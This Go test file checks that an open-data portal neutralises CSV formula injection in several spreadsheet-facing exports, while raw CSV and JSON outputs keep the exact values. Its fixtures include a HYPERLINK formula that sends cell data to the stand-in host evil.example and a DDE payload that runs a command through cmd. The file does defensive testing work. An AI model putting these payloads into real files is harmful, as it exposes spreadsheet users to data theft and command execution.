package server_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"opendata/csvsafe"
)

// Cells a spreadsheet runs as formulas (CSV injection, issue 10 item 12).
const (
	formulaName = `=HYPERLINK("http://evil.example/?"&A1,"点击查看")`
	atName      = "@SUM(1+1)"
	dashName    = "-2+3 站"
)

// The formula fixture: a provider's file whose text cells begin like
// formulas, and a negative number that must stay a number.
var formulaCSV = "站点编号,站点名称,日均客流,负责人身份证\r\n" +
	"1,\"" + strings.ReplaceAll(formulaName, `"`, `""`) + "\",-12.5,11010519491231002X\r\n" +
	"2," + atName + ",950,11010519491231002X\r\n" +
	"3," + dashName + ",800,110105194912310021\r\n" +
	"4,'引号开头,650,11010519491231002X\r\n"

// readCSV parses a CSV answer (BOM removed) into rows.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, b)
	}
	return rows
}

// column finds a column's cells by its header.
func column(t *testing.T, rows [][]string, name string) []string {
	t.Helper()
	for i, h := range rows[0] {
		if h == name {
			var out []string
			for _, r := range rows[1:] {
				out = append(out, r[i])
			}
			return out
		}
	}
	t.Fatalf("no column %q in %v", name, rows[0])
	return nil
}

// TestCSVFormulaInjection: every CSV made for spreadsheets (open.csv, the
// records API's CSV, catalog.csv, the share download, the audit export)
// neutralises cells that begin like formulas; Parquet-backed JSON and
// records?format=csv&raw=true keep the exact value.
func TestCSVFormulaInjection(t *testing.T) {
	e := sqliteEnv(t)
	staff := e.login("jt_staff", "transport-pass-1")
	admin := e.login("admin", "bureau-secret-1")
	entry := busEntry(e.bus)
	entry["name"] = "=cmd|' /C calc'!A0 公交站点"
	r := e.do("POST", "/api/v1/catalog/resources", staff, entry, nil)
	if r.status != 201 {
		t.Fatalf("create: %d %s", r.status, r.body)
	}
	id := int64(r.json(t)["id"].(float64))
	r = e.upload(staff, id, "stops.csv", []byte(formulaCSV))
	if j := e.waitJob(staff, r.json(t)["job"].(map[string]any)["id"].(string)); j["status"] != "succeeded" {
		t.Fatalf("ingest: %v", j)
	}
	e.do("POST", fmt.Sprintf("/api/v1/catalog/resources/%d/versions/1/submit", id), staff, nil, nil)
	if r := e.do("POST", fmt.Sprintf("/api/v1/catalog/resources/%d/versions/1/approve", id), admin, nil, nil); r.status != 200 {
		t.Fatalf("publish: %s", r.body)
	}
	exact := []string{formulaName, atName, dashName, "'引号开头"}
	safe := []string{"'" + formulaName, "'" + atName, "'" + dashName, "''引号开头"}
	check := func(what string, got, want []string) {
		t.Helper()
		if strings.Join(got, "\x00") != strings.Join(want, "\x00") {
			t.Errorf("%s: %q, want %q", what, got, want)
		}
	}

	// open.csv, as the public downloads it.
	r = e.do("GET", fmt.Sprintf("/api/v1/resources/%d/download/open.csv", id), "", nil, nil)
	if r.status != 200 {
		t.Fatalf("download: %d %s", r.status, r.body)
	}
	rows := readCSV(t, r.body)
	check("open.csv", column(t, rows, "站点名称"), safe)
	check("open.csv numbers", column(t, rows, "日均客流"), []string{"-12.5", "950", "800", "650"})
	var back []string
	for _, c := range column(t, rows, "站点名称") {
		back = append(back, csvsafe.Unescape(c))
	}
	check("open.csv unescaped", back, exact)

	// The records API: CSV for spreadsheets, raw CSV and JSON exact.
	recs := fmt.Sprintf("/api/v1/resources/%d/records?sort=%s", id, url.QueryEscape("站点编号"))
	r = e.do("GET", recs+"&format=csv", "", nil, nil)
	check("records csv", column(t, readCSV(t, r.body), "站点名称"), safe)
	r = e.do("GET", recs+"&format=csv&raw=true", "", nil, nil)
	check("records raw csv", column(t, readCSV(t, r.body), "站点名称"), exact)
	r = e.do("GET", recs, "", nil, nil)
	var names []string
	for _, rec := range r.json(t)["records"].([]any) {
		names = append(names, rec.(map[string]any)["站点名称"].(string))
	}
	check("records json", names, exact)
	if r := e.do("GET", recs+"&raw=true", "", nil, nil); r.status != 400 || !strings.Contains(string(r.body), "raw") {
		t.Errorf("raw without csv: %d %s", r.status, r.body)
	}

	// The dataset page's preview shows the exact values.
	page := e.do("GET", fmt.Sprintf("/datasets/%d", id), "", nil, nil)
	if !strings.Contains(string(page.body), "<td>@SUM(1&#43;1)</td>") || strings.Contains(string(page.body), "<td>&#39;@SUM") {
		t.Errorf("preview does not show the exact value")
	}

	// catalog.csv.
	r = e.do("GET", "/api/v1/catalog.csv", "", nil, nil)
	check("catalog.csv", column(t, readCSV(t, r.body), "name"), []string{"'=cmd|' /C calc'!A0 公交站点"})

	// The share download and the audit export, with a purpose that is a formula.
	other := e.login("wj_staff", "health-pass-123")
	purpose := "=1+1 核对公交站点"
	r = e.do("GET", fmt.Sprintf("/api/v1/share/resources/%d/data?purpose=%s", id, url.QueryEscape(purpose)), other, nil, nil)
	if r.status != 200 {
		t.Fatalf("share download: %d %s", r.status, r.body)
	}
	check("share download", column(t, readCSV(t, r.body), "站点名称"), safe)
	r = e.do("GET", "/api/v1/audit?format=csv", admin, nil, nil)
	found := false
	for _, p := range column(t, readCSV(t, r.body), "purpose") {
		if strings.HasPrefix(p, "=") {
			t.Errorf("audit export cell %q begins like a formula", p)
		}
		found = found || p == "'"+purpose
	}
	if !found {
		t.Errorf("audit export lacks the neutralised purpose: %s", r.body)
	}
}
